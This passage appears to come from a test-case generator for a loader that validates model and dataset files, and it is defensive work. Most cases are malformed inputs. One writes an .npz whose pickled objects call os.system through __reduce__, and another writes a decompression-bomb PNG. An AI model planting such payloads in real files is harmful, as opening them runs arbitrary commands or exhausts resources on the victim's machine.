    _npz(folder / "data.npz", x=np.zeros((40, 28, 28), np.uint8), y=np.arange(40) % 12)


@_data_case("data_npz_pickled_objects", "cannot read .npz", "data.npz", live=True)
def _d_pickled(folder, marker):
    import numpy as np

    class Payload:
        def __reduce__(self):
            import os

            return os.system, (shell(marker),)

    x = np.empty(4, dtype=object)
    x[:] = [Payload() for _ in range(4)]
    _npz(folder / "data.npz", x=x, y=np.zeros(4, np.int64))


@_data_case("data_npz_missing_y", "needs arrays", "data.npz")
def _d_missing(folder, marker):
    import numpy as np

    _npz(folder / "data.npz", x=np.zeros((4, 28, 28), np.uint8))


@_data_case("data_npz_length_mismatch", "one label per image", "data.npz")
def _d_mismatch(folder, marker):
    import numpy as np

    _npz(folder / "data.npz", x=np.zeros((4, 28, 28), np.uint8), y=np.zeros(5, np.int64))


@_data_case("data_npz_empty", "empty", "data.npz")
def _d_npz_empty(folder, marker):
    import numpy as np

    _npz(folder / "data.npz", x=np.zeros((0, 28, 28), np.float32), y=np.zeros(0, np.int64))


@_data_case("data_npz_nan_pixels", "nan or inf", "data.npz")
def _d_nan(folder, marker):
    import numpy as np

    x = np.zeros((20, 28, 28), np.float32)
    x[3, 4, 5] = np.nan
    _npz(folder / "data.npz", x=x, y=np.arange(20) % 10)


@_data_case("data_wrong_file_type", "folder of class folders or an .npz", "data.csv")
def _d_csv(folder, marker):
    (folder / "data.csv").write_text("x,y\n0,1\n")


@_data_case("data_decompression_bomb", "cannot read image", "data", names="data/cat/bomb.png")
def _d_bomb(folder, marker):
    (folder / "data" / "cat").mkdir(parents=True)
    (folder / "data" / "cat" / "bomb.png").write_bytes(_png(100_000, 100_000))


@_data_case("data_corrupt_image_header", "cannot read image", "data", names="data/cat/broken.ppm")
def _d_ppm(folder, marker):
    (folder / "data" / "cat").mkdir(parents=True)
    (folder / "data" / "cat" / "broken.ppm").write_bytes(b"P5\n2\xc18 28\n255\n" + bytes(784))


@_data_case("data_mixed_image_sizes", "differs", "data")
def _d_sizes(folder, marker):
    for cls, size in (("a", 28), ("b", 32)):
        (folder / "data" / cls).mkdir(parents=True)
        (folder / "data" / cls / "0.png").write_bytes(_png(size, size))


# ---------------------------------------------------------------- resource limits

SPARSE_SIZE = 5 * 2**30  # over the default --max-file-bytes (4 GiB); takes no disk space


@case("file_over_size_limit", "limits", "over the limit")
def _sparse(folder, marker):
    with open(folder / "model.pt", "wb") as fh:
        fh.truncate(SPARSE_SIZE)


@case("file_over_max_file_bytes_option", "limits", "over the limit", args=(*ARCH_ARGS, "--max-file-bytes", "1000"))
def _small_limit(folder, marker):
    clean_state_dict_file(folder)


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[-1].strip(), file=sys.stderr)
        return 2
    sys.path.insert(0, str(REPO))
    for c in build(Path(argv[0])):
        print(f"{c.group:12} {c.name:36} {c.model(Path(argv[0]))}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
